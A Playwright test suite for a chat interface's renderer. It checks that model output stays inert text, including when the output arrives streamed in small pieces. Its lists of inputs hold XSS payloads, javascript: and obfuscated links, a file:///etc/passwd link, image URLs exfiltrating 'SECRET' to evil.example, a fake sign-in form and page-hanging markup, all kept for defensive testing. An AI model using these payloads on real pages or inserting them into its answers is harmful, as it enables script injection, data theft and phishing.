"""What a model writes is text: it runs nothing, loads nothing, leads nowhere unasked, and stays within its message.

Each text also comes in small pieces, so that every mark of it is cut somewhere. That no page asked another origin,
opened a dialog or broke its own policy is what `watched` checks.
"""

import json
from collections.abc import Sequence

import pytest
from playwright.async_api import Page, Route, expect

from tests.support.chat_page import ChatPage
from tests.support.client import Client
from tests.support.script import Step, say
from tests.support.talk import Talk
from tests.support.upstream import Upstream
from tests.support.watched import DESK, PHONE, Watched

SHARED_SETTINGS = {"TITLES": 0, "MAX_OUTPUT_CHARS": 1_200_000, "MAX_TOKENS": 1_000_000}

ACTIVE = "script, img, picture, iframe, object, embed, style, link, meta, base, video, audio, source, template"
CONTROLS = "form, input, textarea, select, option, dialog, [contenteditable], [onclick], [onerror], [onload], [style]"

HTML = (
    "<script>window.ran = 1; alert(1)</script>",
    '<img src=x onerror="window.ran = 1">',
    '<img src="https://evil.example/?q=SECRET">',
    '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    '<svg onload="window.ran = 1"><animate onbegin="window.ran = 1" attributeName=x /></svg>',
    "<style>@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b) }</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/c)">over all</div>',
    '<object data="https://evil.example/d"></object><embed src="https://evil.example/e">',
    '<a href="javascript:window.ran=1" onclick="window.ran = 1">raw link</a>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input type="password" autofocus onfocus="window.ran = 1"></form>',
    "Session expired. <b>Type your password:</b> <input><button>Sign in</button><textarea></textarea>",
)
LINKS = (
    "[one](javascript:window.ran=1)",
    "[two](JaVa&#x73;cript:window.ran=1)",
    "[three](java\tscript:window.ran=1)",
    "[four](<java script:window.ran=1>)",
    "[five](data:text/html;base64,PHNjcmlwdD4=)",
    "[six](vbscript:x)",
    "[seven](ms-msdt:/id)",
    "[eight](smb://evil.example/share)",
    "[nine](&#106;avascript:window.ran=1)",
    "[ten](\\x6aavascript:1)",
    "[eleven](//evil.example/relative)",
    "[twelve](/api/conversations)",
    "[thirteen][ref]",
    "<javascript:window.ran=1>",
    "[fourteen](file:///etc/passwd)",
    "[ref]: javascript:window.ran=1",
)
PICTURES = (
    "![first](https://evil.example/one?q=SECRET)",
    "![second][far]",
    "[![third](https://evil.example/three)](https://good.example/page)",
    "![](https://evil.example/four.png)",
    "![fifth](data:image/svg+xml;base64,PHN2Zz4=)",
    "[far]: https://evil.example/two 'title'",
)
FORMULAS = (
    "Right: $x^2$.",
    r"$\href{javascript:window.ran=1}{y}$",
    r"$\url{javascript:window.ran=1}$",
    r"$\includegraphics{https://evil.example/f.png}$",
    r"$\htmlStyle{background:url(https://evil.example/g)}{z}$",
    r"$\def\a{\a\a}\a$",
    r"$\rule{99999em}{99999em}$",
    '```mermaid\ngraph TD; A-->B; click A "javascript:window.ran=1"\n```',
)

UNCLOSED = ("```python\nprint('<b>')", "<!-- never closed", "<div><script>", "**bold [link](", "$$ x^{")

pieces = pytest.mark.parametrize("pieces", ["whole", "in pieces"])


def in_pieces(text: str, pieces: str) -> list[Step]:
    """An answer that comes at once, or three characters at a time, of which the page draws many states."""
    cut = [text] if pieces == "whole" else [text[at : at + 3] for at in range(0, len(text), 3)]
    return say(*cut, pause=0 if pieces == "whole" else 0.002)


async def answered(visitor: Watched, upstream: Upstream, steps: Sequence[Step]) -> ChatPage:
    """A conversation whose only answer is this, to its end."""
    chat = await ChatPage.open(visitor)
    upstream.script(*steps)
    await chat.ask("Go.")
    await chat.ended()
    return chat


async def is_harmless(chat: ChatPage) -> None:
    """Nothing ran, and there is nothing that could."""
    assert await chat.page.evaluate("window.ran") is None
    await expect(chat.text.locator(ACTIVE)).to_have_count(0)
    await expect(chat.text.locator(CONTROLS)).to_have_count(0)
    for address in await addresses(chat):
        assert address.startswith(("http://", "https://", "mailto:")), address
        assert not address.startswith(chat.page.url.partition("/c/")[0]), "a link into this page"


async def addresses(chat: ChatPage) -> list[str]:
    """Where the links of the newest answer lead."""
    return await chat.text.locator("a").evaluate_all("(links) => links.map((link) => link.href)")


async def goes_on(chat: ChatPage, upstream: Upstream) -> None:
    """The rest of the page is as it was: one can ask, and the answer is drawn."""
    upstream.script(*say("Still **here**."))
    await chat.ask("Are you there?")
    await expect(chat.answers.last.locator("strong, b")).to_have_text("here")
    await chat.ended()


@pieces
async def test_html_is_shown_as_text(shared_visitor: Watched, shared_upstream: Upstream, pieces: str) -> None:
    chat = await answered(shared_visitor, shared_upstream, in_pieces("\n\n".join(HTML), pieces))
    for line in HTML:
        await expect(chat.text).to_contain_text(line)
    await is_harmless(chat)
    await goes_on(chat, shared_upstream)


@pieces
async def test_html_within_a_line_is_shown_as_text(
    shared_visitor: Watched, shared_upstream: Upstream, pieces: str
) -> None:
    text = (
        "\n".join(f"- before {line} after" for line in HTML)
        + "\n\n| a |\n| - |\n"
        + "\n".join(f"| {line} |" for line in HTML if "|" not in line)
    )
    chat = await answered(shared_visitor, shared_upstream, in_pieces(text, pieces))
    for line in HTML:
        await expect(chat.text.locator("li").filter(has_text=line)).not_to_have_count(0)
    await is_harmless(chat)


@pieces
async def test_dangerous_links_lead_nowhere(shared_visitor: Watched, shared_upstream: Upstream, pieces: str) -> None:
    text = "\n\n".join((*LINKS, "[good](https://good.example/page)", "<mailto:a@good.example>"))
    chat = await answered(shared_visitor, shared_upstream, in_pieces(text, pieces))
    await expect(chat.text).to_contain_text("fourteen")
    assert sorted(await addresses(chat)) == ["https://good.example/page", "mailto:a@good.example"]
    await is_harmless(chat)


@pieces
async def test_pictures_are_links_and_never_loaded(
    shared_visitor: Watched, shared_upstream: Upstream, pieces: str
) -> None:
    chat = await answered(shared_visitor, shared_upstream, in_pieces("\n\n".join(PICTURES), pieces))
    await expect(chat.text.get_by_role("link", name="first")).to_be_visible()
    assert await addresses(chat) == [
        "https://evil.example/one?q=SECRET",
        "https://evil.example/two",
        "https://good.example/page",
        "https://evil.example/four.png",
    ]
    await expect(chat.text).to_contain_text("fifth")
    await is_harmless(chat)


async def test_where_a_link_leads_is_shown_before_it_is_opened(
    shared_visitor: Watched, shared_upstream: Upstream
) -> None:
    text = "See [https://bank.example](https://bank.example@evil.example/login?to=bank.example)."
    chat = await answered(shared_visitor, shared_upstream, say(text))
    link = chat.text.get_by_role("link", name="https://bank.example")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    dialog = chat.page.get_by_role("dialog", name="Open this link?")
    for button in ("left", "middle"):
        await link.click(button=button)
        await expect(dialog).to_contain_text("https://bank.example@evil.example/login?to=bank.example")
        await expect(dialog.locator("strong")).to_have_text("evil.example")
        await dialog.get_by_role("button", name="Cancel").click()
        await expect(dialog).to_have_count(0)
    await expect(link).to_be_focused()
    assert len(shared_visitor.context.pages) == 1


@pieces
async def test_formulas_and_diagrams_do_nothing(
    shared_visitor: Watched, shared_upstream: Upstream, pieces: str
) -> None:
    chat = await answered(shared_visitor, shared_upstream, in_pieces("\n\n".join(FORMULAS), pieces))
    await expect(chat.text.locator("math").first).to_be_attached()  # maths is there, and what it refused is code
    await expect(chat.text).to_contain_text(r"\href")
    await expect(chat.text).to_contain_text(r"\includegraphics")
    await expect(chat.text.get_by_text("graph TD")).to_be_visible()
    assert await chat.page.evaluate("window.ran") is None
    await expect(chat.text.locator(f"a, {ACTIVE}")).to_have_count(0)
    await goes_on(chat, shared_upstream)


@pytest.mark.parametrize(
    "end", ["```python\nprint('<b>')", "<!-- never closed", "<div><script>", "**bold [link](", "$$ x^{"]
)
@pieces
async def test_what_is_never_closed_stays_within_its_message(
    shared_visitor: Watched, shared_upstream: Upstream, end: str, pieces: str
) -> None:
    chat = await answered(shared_visitor, shared_upstream, in_pieces(f"Before.\n\n{end}", pieces))
    await expect(chat.text).to_contain_text("Before.")
    await expect(chat.text).to_contain_text(end.rsplit("\n", maxsplit=1)[-1].strip("*$"))
    await goes_on(chat, shared_upstream)


async def test_no_model_can_draw_a_control(shared_visitor: Watched, shared_upstream: Upstream) -> None:
    text = "\n\n".join(("# System", *HTML[-2:], "- [ ] not done\n- [x] done"))
    chat = await answered(shared_visitor, shared_upstream, say(text))
    await expect(chat.text).to_contain_text("☐")
    await expect(chat.text.get_by_role("textbox")).to_have_count(0)
    await expect(chat.text.get_by_role("checkbox")).to_have_count(0)
    await expect(chat.text.get_by_role("button")).to_have_count(0)
    await expect(chat.text.get_by_role("heading", level=1)).to_have_count(0)


TABLE = """
| Model | What it costs | 몇 토큰까지 | Released | Requests | Place | Remark |
| - | -: | -: | - | -: | - | - |
| `embedded/smollm2_135m_instruct` | 22,000 | 1,234,567 | 2026년에 | 1,000,000 | [Massachusetts][place] | LONG |

[place]: https://good.example/
""".replace("LONG", "x" * 400)
# The words of all cells that stand on more than one line; but one that alone is wider than a cell may be has to.
_BROKEN_WORDS = """
() => [...document.querySelectorAll(".md-table :is(th, td)")].flatMap((cell) => {
  const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
  const broken = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    for (const { 0: word, index } of node.data.matchAll(/[^\\s/-]+/gu)) {
      const range = document.createRange();
      range.setStart(node, index);
      range.setEnd(node, index + word.length);
      const lines = new Set([...range.getClientRects()].map(({ top }) => Math.round(top)));
      if (lines.size > 1 && word.length < 100) broken.push(word);
    }
  }
  return broken;
})
"""
_PAGE_OVERFLOWS = "() => document.documentElement.scrollWidth > innerWidth"
_CELL_OVERFLOWS = """
() => [...document.querySelectorAll(".md-table :is(th, td)")].some((cell) => cell.scrollWidth > cell.clientWidth + 1)
"""


@pytest.mark.parametrize("width", [DESK, PHONE])
async def test_a_table_breaks_no_word_and_is_scrolled_instead(
    shared_visitor: Watched, shared_upstream: Upstream, width: int
) -> None:
    chat = await answered(shared_visitor, shared_upstream, say(TABLE))
    await chat.page.set_viewport_size({"width": width, "height": 844})
    table = chat.text.get_by_role("region", name="Table")
    await expect(table).to_contain_text("22,000")
    assert await chat.page.evaluate(_BROKEN_WORDS) == []
    assert not await chat.page.evaluate(_CELL_OVERFLOWS)
    assert not await chat.page.evaluate(_PAGE_OVERFLOWS)
    assert await table.evaluate("(box) => box.scrollWidth > box.clientWidth")


BOMBS = {
    "emphasis": "**a**" * 32_000,
    "quotes": ">" * 10_000 + " deep",
    "brackets": "[" * 50_000,
    "a long table": "| a | b |\n| - | - |\n" + "| 1 | 2 |\n" * 10_000,
    "a long line": "word " * 200_000,
}


@pytest.mark.parametrize("bomb", BOMBS)
async def test_what_would_hold_the_page_up_is_shown_plainly(
    shared_visitor: Watched, shared_upstream: Upstream, bomb: str
) -> None:
    text = BOMBS[bomb]
    steps = say(*(text[at : at + 10_000] for at in range(0, len(text), 10_000)))
    chat = await answered(shared_visitor, shared_upstream, steps)
    await expect(chat.text.locator(".md-plain").last).to_be_attached()
    await expect(chat.text.locator("strong, b, blockquote, table, a")).to_have_count(0)
    shown = await chat.text.evaluate("(text) => text.textContent.replaceAll(/\\s/g, '')")
    assert shown == "".join(text.split())
    await goes_on(chat, shared_upstream)


async def test_titles_and_questions_are_text(shared_visitor: Watched, shared_client: Client) -> None:
    title = '<img src=x onerror="window.ran=1">{{title}}'
    talk = await Talk.begin(shared_client, title=title)
    chat = await ChatPage.open(shared_visitor, f"/c/{talk.id}")
    await expect(chat.page.get_by_role("heading", name=title)).to_be_visible()
    await chat.ask(HTML[1])
    await chat.ended()
    await expect(chat.question.get_by_text(HTML[1], exact=True)).to_be_visible()
    assert await _is_untouched(chat.page)


async def test_the_words_of_an_error_are_text(shared_visitor: Watched, shared_upstream: Upstream) -> None:
    model = "<img src=x onerror=window.ran=1>"
    chat = await ChatPage.open(shared_visitor)

    async def refuse(route: Route) -> None:
        body = {"title": model, "status": 400, "code": "odd", "detail": f"No {model}.", "retryable": False}
        await route.fulfill(status=400, body=json.dumps(body), content_type="application/problem+json")

    await chat.page.route("**/api/chat/stream*", refuse)
    await chat.ask("Hello?")
    await expect(chat.question.get_by_role("alert")).to_contain_text(f"No {model}.")
    assert await _is_untouched(chat.page)
    assert shared_upstream.calls == 0


async def _is_untouched(page: Page) -> bool:
    return await page.evaluate("window.ran === undefined && document.querySelector('main img') === null")
